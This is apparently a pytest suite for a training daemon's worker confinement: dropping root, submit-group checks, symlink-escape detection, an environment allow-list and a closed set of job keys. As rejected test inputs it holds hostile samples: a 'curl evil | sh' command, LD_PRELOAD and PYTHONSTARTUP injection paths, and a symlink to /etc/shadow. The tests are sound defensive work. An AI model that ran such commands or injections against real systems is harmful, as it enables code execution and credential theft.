"""Confinement rules (oddaemon/adapters/confine.py), the worker environment allow-list and the closed set of
job keys. The real-daemon side (real users and groups) is in tests/faults/test_confinement.py."""

from __future__ import annotations

import ipaddress
import os
import pathlib
import pwd
import shutil
import subprocess
import sys
import tempfile
import time

import pytest

from oddaemon.adapters import confine, procs
from oddaemon.core.config import Config, load_config, parse_config
from oddaemon.core.errors import OperationError
from oddaemon.core.job_validation import ValidationContext, parse_job
from oddaemon.core.jobspec import JobSpec, PipelineEdits

REPO = pathlib.Path(__file__).resolve().parents[2]
PATH = "/etc/oddaemon/oddaemon.toml"
NOBODY = pwd.getpwnam("nobody")
SYSTEM_PYTHON = "/usr/bin/python3"
needs_root = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (switches users, chowns)")


def config(**fields) -> Config:
    return Config(path=PATH, **fields)


# ---- who the workers run as ---------------------------------------------------------------------
def test_a_root_daemon_refuses_root_workers_unless_told():
    with pytest.raises(confine.ConfinementError) as info:
        confine.worker_identity(config(), 0)
    assert str(info.value) == (
        "oddaemon is running as root and would run its training workers as root; run it as its own user (the "
        "systemd unit does: User=oddaemon), or set [worker] user = \"oddaemon\" in /etc/oddaemon/oddaemon.toml to "
        "run the workers as that user, or (containers, throwaway machines) set [worker] allow_root = true")
    assert confine.worker_identity(config(worker_allow_root=True), 0) is None  # None: the daemon's own (root)


def test_a_root_daemon_runs_workers_as_the_configured_user():
    identity = confine.worker_identity(config(worker_user="nobody"), 0)
    assert identity == confine.Identity("nobody", NOBODY.pw_uid, NOBODY.pw_gid,
                                        tuple(sorted(set(os.getgrouplist("nobody", NOBODY.pw_gid)))), NOBODY.pw_dir)


def test_the_worker_user_must_exist_and_not_be_root():
    with pytest.raises(confine.ConfinementError, match=r'^\[worker\] user = "no-such-user-xyz" in /etc/oddaemon/'
                                                       r"oddaemon.toml: there is no such user on this system; create "
                                                       r"it \(useradd --system no-such-user-xyz\)"):
        confine.worker_identity(config(worker_user="no-such-user-xyz"), 0)
    with pytest.raises(confine.ConfinementError, match=r"is root \(uid 0\), so the workers would run as root"):
        confine.worker_identity(config(worker_user="root"), 0)
    assert confine.worker_identity(config(worker_user="root", worker_allow_root=True), 0) is None


def test_a_daemon_that_is_not_root_runs_workers_as_itself():
    assert confine.worker_identity(config(), NOBODY.pw_uid) is None
    assert confine.worker_identity(config(worker_user="nobody"), NOBODY.pw_uid) is None
    assert confine.worker_identity(config(worker_allow_root=True), NOBODY.pw_uid) is None  # nothing to allow
    with pytest.raises(confine.ConfinementError) as info:
        confine.worker_identity(config(worker_user="root"), NOBODY.pw_uid)
    assert str(info.value) == (
        "[worker] user = \"root\" in /etc/oddaemon/oddaemon.toml, but oddaemon runs as user nobody (uid 65534) and "
        "cannot switch users; remove the setting (the workers then run as nobody), set it to \"nobody\", or start "
        "oddaemon as root to run its workers as root")


def test_the_new_keys_parse_and_default():
    assert (Config(path=None).worker_user, Config(path=None).worker_allow_root) == ("", False)
    parsed = parse_config('[worker]\nuser = "oddaemon"\nallow_root = true\n[jobs]\nsubmit_group = ""\n', PATH)
    assert (parsed.worker_user, parsed.worker_allow_root, parsed.submit_group) == ("oddaemon", True, "")


def test_reach_problem_names_the_directory_that_keeps_the_worker_out():
    nobody = confine.Identity("nobody", NOBODY.pw_uid, NOBODY.pw_gid, (NOBODY.pw_gid,), "/")
    closed = pathlib.Path(tempfile.mkdtemp(prefix="oddaemon-reach-"))  # /tmp: open to others on the way
    try:
        (closed / "work").mkdir()
        closed.chmod(0o711)
        assert confine.reach_problem(nobody, str(closed / "work"), "the job work directory") is None
        closed.chmod(0o700)
        assert confine.reach_problem(nobody, str(closed / "work"), "the job work directory") == (
            f"the worker user nobody cannot reach the job work directory {closed}/work: {closed} (mode 0700, owned "
            f"by {confine.user_name(os.geteuid())}) does not let it in; chmod o+x {closed}, or choose another "
            "[worker] user")
        python = confine.reach_problem(nobody, "/bin/true", "x", execute=True)
        assert python is None
    finally:
        shutil.rmtree(closed)


# ---- who may submit ----------------------------------------------------------------------------
def test_submitters():
    trusted = {0, 4242}
    assert confine.submitter_problem(NOBODY.pw_uid, "", trusted) is None  # "" turns the check off
    assert confine.submitter_problem(4242, "adm", trusted) is None
    assert confine.submitter_problem(NOBODY.pw_uid, "nogroup", trusted) is None  # its primary group
    assert confine.submitter_problem(NOBODY.pw_uid, "adm", trusted) == (
        "owned by user nobody (uid 65534), who is not a member of the submit group 'adm'; ask an administrator to "
        "add you (usermod -aG adm nobody)")
    assert confine.submitter_problem(NOBODY.pw_uid, "no-such-group-xyz", trusted) == (
        "owned by user nobody (uid 65534); the submit group 'no-such-group-xyz' does not exist on this system, so "
        "only root and the daemon's user may submit; ask an administrator to create it (groupadd "
        "no-such-group-xyz) and add you (usermod -aG no-such-group-xyz nobody)")
    ghost = next(uid for uid in range(54321, 60000) if not _has_account(uid))
    assert confine.submitter_problem(ghost, "adm", trusted).startswith(
        f"owned by uid {ghost}, which has no user account on this system")


def _has_account(uid: int) -> bool:
    try:
        pwd.getpwuid(uid)
    except KeyError:
        return False
    return True


# ---- paths are checked again when a worker starts ------------------------------------------------
def test_escaped_paths_with_fakes():
    links = {"/srv/a/pipeline.config": "/etc/shadow", "/srv/a/train-1.rec": "/home/x/train-1.rec"}
    spec = JobSpec(name="j", pipeline_config="/srv/a/pipeline.config", model_dir="/srv/a/model",
                   pipeline=PipelineEdits(label_map_path="/srv/a/map.pbtxt", train_input_path=("/srv/a/train-*.rec",)))
    found = confine.escaped_paths(spec, ("/srv/a",), realpath=lambda p: links.get(p, p),
                                  glob=lambda p: ["/srv/a/train-1.rec"])
    assert found == [
        "pipeline_config /srv/a/pipeline.config now resolves to /etc/shadow, outside the allowed roots /srv/a",
        "[pipeline] train_input_path (/srv/a/train-*.rec matches) /srv/a/train-1.rec now resolves to "
        "/home/x/train-1.rec, outside the allowed roots /srv/a",
        "was a path replaced by a symbolic link after the job was submitted? The worker was not started"]
    assert confine.escaped_paths(spec, ("/srv/a",), realpath=lambda p: p, glob=lambda p: []) == []


def test_escaped_paths_on_a_real_swapped_symlink(tmp_path):
    root = tmp_path / "root"
    (root / "models").mkdir(parents=True)
    (root / "real.config").write_text("train_config {}\n")
    (root / "link.config").symlink_to(root / "real.config")
    spec = JobSpec(name="j", pipeline_config=str(root / "link.config"), model_dir=str(root / "models" / "j"))
    assert confine.escaped_paths(spec, (str(root),)) == []
    (root / "link.config").unlink()
    (root / "link.config").symlink_to("/etc/hostname")
    (root / "models").rename(root / "models.old")
    (root / "models").symlink_to(tmp_path)
    found = confine.escaped_paths(spec, (str(root),))
    assert found[:2] == [
        f"pipeline_config {root}/link.config now resolves to /etc/hostname, outside the allowed roots {root}",
        f"model_dir {root}/models/j now resolves to {tmp_path}/j, outside the allowed roots {root}"]


# ---- the daemon hands its job directories to the worker user -------------------------------------
@needs_root
def test_hand_over_chowns_what_the_daemon_owns_and_nothing_else(tmp_path):
    nobody = confine.Identity("nobody", NOBODY.pw_uid, NOBODY.pw_gid, (NOBODY.pw_gid,), "/")
    work, job_json, root = tmp_path / "work", tmp_path / "work" / "job.json", tmp_path / "root"
    work.mkdir()
    job_json.write_text("{}")
    root.mkdir()
    (tmp_path / "victim").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "victim")
    confine.hand_over(nobody, str(work), str(job_json), str(tmp_path / "missing"), str(tmp_path / "link"),
                      str(root), inside=(str(tmp_path),), keep=(str(root),))
    assert (work.stat().st_uid, work.stat().st_gid) == (NOBODY.pw_uid, NOBODY.pw_gid)
    assert job_json.stat().st_uid == NOBODY.pw_uid
    assert (tmp_path / "victim").stat().st_uid == 0 and root.stat().st_uid == 0  # no symlink followed, roots kept
    confine.hand_over(None, str(root), inside=())
    assert root.stat().st_uid == 0


@needs_root
def test_hand_over_refuses_a_path_whose_parent_now_leads_elsewhere(tmp_path):
    """model_dir = <root>/x/model, and <root>/x swapped for a symlink to a directory outside."""
    nobody = confine.Identity("nobody", NOBODY.pw_uid, NOBODY.pw_gid, (NOBODY.pw_gid,), "/")
    root, outside = tmp_path / "root", tmp_path / "outside"
    (outside / "model").mkdir(parents=True)
    root.mkdir()
    (root / "x").symlink_to(outside)
    with pytest.raises(OperationError) as info:
        confine.hand_over(nobody, str(root / "x" / "model"), inside=(str(root),))
    assert str(info.value) == (f"cannot hand to the worker user nobody {root}/x/model: it now leads to "
                               f"{outside}/model, outside {root}")
    assert (outside / "model").stat().st_uid == 0


# ---- procs: the environment allow-list, and spawning as another user ------------------------------
def test_worker_environment_is_an_allow_list():
    base = {"PATH": "/bin", "PYTHONPATH": "/opt/od", "LD_PRELOAD": "/tmp/evil.so", "PYTHONSTARTUP": "/tmp/s.py",
            "BASH_ENV": "/tmp/b.sh", "NOTIFY_SOCKET": "/run/n", "SECRET_TOKEN": "t", "HOME": "/root"}
    assert procs.worker_environment(base, (1, 3)) == {
        "PATH": "/bin", "PYTHONPATH": "/opt/od", "HOME": "/root", "CUDA_VISIBLE_DEVICES": "1,3",
        "PYTHONUNBUFFERED": "1", "TF_CPP_MIN_LOG_LEVEL": "1"}


@needs_root
@pytest.mark.skipif(not os.access(SYSTEM_PYTHON, os.X_OK), reason=f"needs {SYSTEM_PYTHON}")
def test_spawn_as_another_user_keeps_the_lifeline(tmp_path):
    """A helper process spawns a worker as nobody and dies: the worker has nobody's credentials and
    environment, and dies with its parent (the parent-death signal is armed after the switch)."""
    script = tmp_path / "spawner.py"
    script.write_text(f"""
import os, sys, time
from oddaemon.adapters import procs
from oddaemon.adapters.confine import Identity
sys.executable = {SYSTEM_PYTHON!r}  # the lifeline's interpreter must be one nobody may run
me = Identity("nobody", {NOBODY.pw_uid}, {NOBODY.pw_gid}, ({NOBODY.pw_gid},), "/nonexistent")
w = procs.spawn("j", "train", 1, ["/bin/sleep", "60"], {{"PATH": "/bin", "HOME": "/root"}}, "/", time.time(),
                identity=me)
print(w.pid, flush=True)
time.sleep(1)
""")
    proc = subprocess.run([sys.executable, str(script)], capture_output=True, text=True, timeout=30, cwd=REPO,
                          env={**os.environ, "PYTHONPATH": str(REPO)})
    assert proc.returncode == 0, proc.stderr
    pid = int(proc.stdout.split()[0])
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline and _alive(pid):
        time.sleep(0.05)
    assert not _alive(pid), "the worker outlived the process that spawned it"


@needs_root
@pytest.mark.skipif(not os.access(SYSTEM_PYTHON, os.X_OK), reason=f"needs {SYSTEM_PYTHON}")
def test_spawn_as_another_user_sets_credentials_and_home(tmp_path, monkeypatch):
    monkeypatch.setattr(sys, "executable", SYSTEM_PYTHON)
    me = confine.Identity("nobody", NOBODY.pw_uid, NOBODY.pw_gid, (NOBODY.pw_gid,), "/nonexistent")
    worker = procs.spawn("j", "train", 1, ["/bin/sh", "-c", "grep -E '^(Uid|Gid|Groups):' /proc/self/status; env"],
                         {"PATH": "/bin:/usr/bin", "HOME": "/root"}, "/", time.time(), identity=me)
    try:
        assert worker.popen.wait(10) == 0
        out = b""
        while chunk := os.read(worker.output_fd, 65536):
            out += chunk
    finally:
        os.close(worker.output_fd)
        worker.close()
    lines = out.decode().splitlines()
    assert lines[0].split() == ["Uid:"] + [str(NOBODY.pw_uid)] * 4
    assert lines[1].split() == ["Gid:"] + [str(NOBODY.pw_gid)] * 4
    assert lines[2].split() == ["Groups:", str(NOBODY.pw_gid)]
    assert {"HOME=/nonexistent", "USER=nobody", "LOGNAME=nobody"} <= set(lines[3:])


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", "rb") as f:
            return f.read().rsplit(b")", 1)[1].split()[0] != b"Z"
    except OSError:
        return False


# ---- job files cannot carry environment variables or commands -------------------------------------
@pytest.mark.parametrize("text, fragment", [
    ('[train]\nenv = {LD_PRELOAD = "/tmp/evil.so"}\n', "unknown key 'env' in [train]"),
    ('command = "curl evil | sh"\n', "unknown key 'command' at the top level"),
    ('[worker]\npython = "/tmp/evil"\n', "unknown table [worker]"),
    ('environment = {PATH = "/tmp"}\n', "unknown table [environment]"),
    ('[eval]\nargs = ["--evil"]\n', "unknown key 'args' in [eval]"),
], ids=["train-env", "command", "worker-python", "environment", "eval-args"])
def test_job_keys_are_a_closed_set(tmp_path, text, fragment):
    (tmp_path / "p.config").write_text("train_config {}\n")
    body = f'pipeline_config = "{tmp_path}/p.config"\nmodel_dir = "{tmp_path}/m"\n' + text
    result = parse_job(body.encode(), "evil.toml", ValidationContext(allowed_roots=(str(tmp_path),)))
    assert isinstance(result, list), result
    assert any(fragment in p.message for p in result), [p.message for p in result]


# ---- metrics: loopback unless configured otherwise ------------------------------------------------
def test_metrics_bind_loopback_by_default_and_as_shipped():
    for cfg in (Config(path=None), load_config(str(REPO / "etc" / "oddaemon.toml"))):
        host, port = cfg.metrics_address()
        assert ipaddress.ip_address(host).is_loopback and port == 9781
